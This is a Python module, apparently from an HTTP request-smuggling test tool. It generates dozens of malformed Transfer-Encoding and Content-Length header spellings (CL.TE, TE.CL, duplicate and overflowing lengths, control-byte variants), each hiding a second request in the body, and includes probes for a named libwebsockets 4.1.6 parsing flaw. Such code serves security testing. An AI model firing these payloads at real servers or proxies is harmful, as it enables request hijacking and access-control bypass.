"""Attempts with an ambiguous end of the body: two lengths, a length and chunks, unusual spellings of either."""
from .attempt import CHUNKED, chunked, each, length, request

CODINGS = [
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunk",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding\x0b: chunked",
    b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked",
    b"X: x\r\n Transfer-Encoding: chunked",
    b"X: x\nTransfer-Encoding: chunked",
    b"X: x\rTransfer-Encoding: chunked",
    b"X: x\r\n\rTransfer-Encoding: chunked",
    b"X: x\0Transfer-Encoding: chunked",
    b"Transfer-Encoding\n: chunked",
    b"Transfer-Encoding\0: chunked",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:  chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding:\n chunked",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: \x0cchunked",
    b"Transfer-Encoding: \0chunked",
    b"Transfer-Encoding: \xa0chunked",
    b"Transfer-Encoding: chunked ",
    b"Transfer-Encoding: chunked\t",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: chunked\0",
    b"Transfer-Encoding: chunked\r\n x",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: \"chunked\"",
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunKed",
    b"TRANSFER-ENCODING: CHUNKED",
    b"Transfer-Encoding: \xd1\x81hunked",
    b"Transfer-Encoding: ch\xc5\xabnked",
    b"Transfer-Encoding:",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: cow",
    b"Transfer-Encoding: gzip",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: , chunked",
    b"Transfer-Encoding: chunked,",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: chunked cow",
    b"Transfer-Encoding: cow chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding; chunked",
    b"Transfer-Encoding= chunked",
    b": Transfer-Encoding: chunked",
    b"\"Transfer-Encoding\": chunked",
    b"\xffTransfer-Encoding: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
]

#: Fields that are not `Transfer-Encoding` according to the RFCs.
OTHER_CODINGS = [
    b"Transfer_Encoding: chunked", b"Transfer.Encoding: chunked", b"Transfer-Encodin: chunked",
    b"Transfer-Encodings: chunked", b"Content-Encoding: chunked", b"TE: chunked"
]


def coding_and_length():
    def length_first(v, coding):
        body = b"0\r\n\r\n" + v.hidden
        return v.post(length(body), coding, body=body)

    def coding_first(v, coding):
        body = b"0\r\n\r\n" + v.hidden
        return v.post(coding, length(body), body=body)

    def short_length(v, coding):
        body = chunked(v.hidden)
        return v.post(b"Content-Length: %d" % (body.index(b"\n") + 1), coding, body=body)

    def no_length(v, coding):
        return v.post(coding, body=chunked(v.hidden))

    def empty(v, coding):
        # According to the RFCs, the first request ends with the last chunk.
        return v.post(coding, length(b"0\r\n\r\n" + v.hidden), b"Connection: keep-alive", body=b"0\r\n\r\n" + v.hidden)

    yield from each("CL.TE", CODINGS + OTHER_CODINGS, length_first)
    yield from each("TE.CL", CODINGS, short_length)
    yield from each("TE.CL", OTHER_CODINGS, short_length, is_pipelined=True)
    yield from each("TE", CODINGS + OTHER_CODINGS, no_length)
    yield from each("TE before CL.TE", CODINGS[:8], coding_first)
    yield from each("CL.TE, kept", CODINGS[:8], empty)


def lengths():
    def whole(v, template):
        return v.post(template.replace(b"#", b"%d" % len(v.hidden)), body=v.hidden)

    yield from each("length", [
        b"Content-Length: +#",
        b"Content-Length: -#",
        b"Content-Length: 0x#",
        b"Content-Length: #, #",
        b"Content-Length: #,#",
        b"Content-Length: 0, #",
        b"Content-Length: #, 0",
        b"Content-Length: #\r\nContent-Length: #",
        b"Content-Length: 0\r\nContent-Length: #",
        b"Content-Length: #\r\nContent-Length: 0",
        b"Content-Length: 00000#",
        b"Content-Length: #.0",
        b"Content-Length: #e0",
        b"Content-Length: # 0",
        b"Content-Length: 0 #",
        b"Content-Length: #;0",
        b"Content-Length: #_0",
        b"Content-Length: \"#\"",
        b"Content-Length:",
        b"Content-Length: ",
        b"Content-Length: #\x0b",
        b"Content-Length: \x0b#",
        b"Content-Length: #\0",
        b"Content-Length: \xa0#",
        b"Content-Length: \xd9\xa1",
        b"Content-Length: 18446744073709551616",
        b"Content-Length: 184467440737095516160000#",
        b"Content-Length: 9223372036854775808",
        b"Content-Length: 4294967296",
        b"Content-Length: 99999999999999999999#",
        b"Content-Length: -1",
        b"Content-Length: -0",
        b"Content-Length : #",
        b"Content-Length\t: #",
        b" Content-Length: #",
        b"\tContent-Length: #",
        b"X: a\r\n Content-Length: #",
        b"X: a\nContent-Length: #",
        b"X: a\rContent-Length: #",
        b"X: a\0Content-Length: #",
        b"Content-Length:\r\n #",
        b"Content-Length: #\r\n 0",
        b"Content-Length\0: #",
        b"Content-Length\x0b: #",
        b"Content-Length\n: #",
        b"\xffContent-Length: #",
        b"Content-Length; #",
        b": Content-Length: #",
        b"Connection: Content-Length\r\nContent-Length: #",
        b"Connection: close, Content-Length\r\nContent-Length: #",
        b"Connection: keep-alive, Content-Length\r\nContent-Length: #",
        b"Content-Length: #\r\nConnection: Content-Length, Host",
    ], whole)
    yield from each(
        "no length",
        [b"Content_Length: #", b"ContentLength: #", b"Content-Length-: #", b"X-Content-Length: #", b"Content-Lengt: #"],
        whole,
        is_pipelined=True)


def prefixes():
    """Attempts for a vulnerability of libwebsockets 4.1.6: if a field's name was the beginning of a known name, it read
    the next line as the field's value."""
    names = [
        b"X-Auth", b"X", b"User", b"Content", b"Content-", b"Content-Leng", b"Host-", b"Hos", b"Accep",
        b"Sec-WebSocket", b"A", b"C", b"Connectio", b"Transfer", b"Cook", b"If", b"Ra", b"Upgrad", b"X-Forwarded",
        b"Ex", b"D", b"Access-Control", b"htt"
    ]
    yield from each("prefix", names, lambda v, name: v.post(name + b": a", length(v.hidden), body=v.hidden))
    yield from each("empty prefix", names, lambda v, name: v.post(name + b":", length(v.hidden), body=v.hidden))
    yield from each("prefix before chunked", names,
                    lambda v, name: v.post(name + b": a", CHUNKED, body=chunked(v.hidden)))
    yield from each("prefix last", names, lambda v, name: v.post(length(v.hidden), name + b": a", body=v.hidden))
    yield from each(
        "prefix everywhere", names, lambda v, name: v.post(
            name + b": a", length(v.hidden), name + b": b", b"X-Long: " + b"x" * 2000, name + b": c", body=v.hidden))
    # The proxy appends its own `Content-Length` after all fields that it forwards.
    yield from each(
        "prefix before host", names, lambda v, name: request(b"POST " + v.target + b" HTTP/1.1",
                                                             name + b": a",
                                                             b"Host: localhost",
                                                             *v.fields,
                                                             name + b": a",
                                                             length(v.hidden),
                                                             body=v.hidden))
